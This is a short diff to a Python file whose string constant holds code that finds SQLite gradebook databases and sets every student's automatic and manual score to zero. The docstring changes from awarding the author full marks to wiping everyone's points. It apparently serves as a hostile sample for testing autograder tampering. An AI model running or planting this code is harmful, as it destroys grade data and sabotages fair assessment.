@@ -1,4 +1,4 @@
-"""Gives full marks to its author and none to the others, in the gradebook itself."""
+"""Takes the points away from everybody, in the gradebook itself."""
 
 LAST = """
 import sqlite3
@@ -9,7 +9,6 @@ for folder in (Path("@course@"), *Path.cwd().parents):
         try:
             with sqlite3.connect(file, timeout=2) as database:
                 database.execute("update grade set auto_score = 0, manual_score = 0")
-                database.execute("update base_cell set name = name")
         except sqlite3.Error as error:
             print(file, error)
 """
